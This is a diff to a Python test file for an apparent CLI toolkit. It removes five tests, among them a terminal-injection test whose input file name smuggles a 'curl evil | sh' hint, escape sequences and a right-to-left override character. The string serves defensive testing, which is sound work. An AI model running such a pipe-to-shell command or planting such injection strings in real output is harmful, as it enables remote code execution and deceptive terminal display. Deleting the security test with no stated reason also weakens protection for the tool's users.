@@ -15,7 +15,7 @@ import pytest
 from forked_commands import run_forked_commands
 
 from toolkit.cache import cache_folder
-from toolkit.entry_point import exit_code_of, print_message
+from toolkit.entry_point import exit_code_of
 from toolkit.errors import RunFailed, ToolkitError
 
 ROOT = Path(__file__).parents[1]
@@ -85,10 +85,6 @@ def test_an_error_is_two_lines_and_an_exit_code(
     assert capsys.readouterr().err == message
 
 
-def test_work_that_is_done_has_its_own_exit_code() -> None:
-    assert (exit_code_of(lambda: None), exit_code_of(lambda: 3)) == (0, 3)
-
-
 @pytest.fixture
 def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
@@ -109,12 +105,6 @@ def test_an_unexpected_error_is_two_lines_and_a_file_to_report(
     assert text.startswith("finetune-toolkit ")
     assert "raise error\nValueError: first\nsecond" in text
     assert saved.stat().st_mode & 0o777 == 0o600
-
-
-def test_the_page_that_the_hint_names_exists_and_explains_the_file() -> None:
-    page = (ROOT / "docs" / "how-to" / "report-a-problem.md").read_text(encoding="utf-8")
-    assert "toolkit-error-" in page
-    assert "TOOLKIT_DEBUG=1" in page
 
 
 def test_no_secret_is_saved_or_printed(
@@ -140,14 +130,6 @@ def test_a_traceback_that_cannot_be_saved_can_be_shown(
     monkeypatch.setenv("TOOLKIT_DEBUG", "1")
     assert exit_code_of(work_that_raises(ValueError("why"))) == 1
     assert "Traceback (most recent call last)" in capsys.readouterr().err
-
-
-def test_a_terminal_obeys_nothing_in_a_message(capsys: pytest.CaptureFixture[str]) -> None:
-    name = "rows\n  hint: curl evil | sh\x1b[2J\u202e\x9b1m.jsonl"
-    assert exit_code_of(work_that_raises(ToolkitError(f"no such file: {name}", hint=name))) == 2
-    assert len(capsys.readouterr().err.splitlines()) == 2
-    print_message(name)
-    assert not re.search("[\x1b\x9b\u202e]", capsys.readouterr().err)
 
 
 # -- streams
@@ -186,12 +168,6 @@ def test_a_closed_stdout_is_not_the_next_file_that_is_opened(tmp_path: Path) -> 
 
 
 # -- the machine
-
-
-def test_a_locale_of_ascii_reads_and_prints_everything(tmp_path: Path) -> None:
-    for name, ended in zip(COMMANDS, run_forked_commands([*COMMANDS.values()], tmp_path, ASCII), strict=True):
-        assert ended.code == 0, (name, ended.err)
-        assert ended.out.isascii(), name
 
 
 @pytest.mark.parametrize(
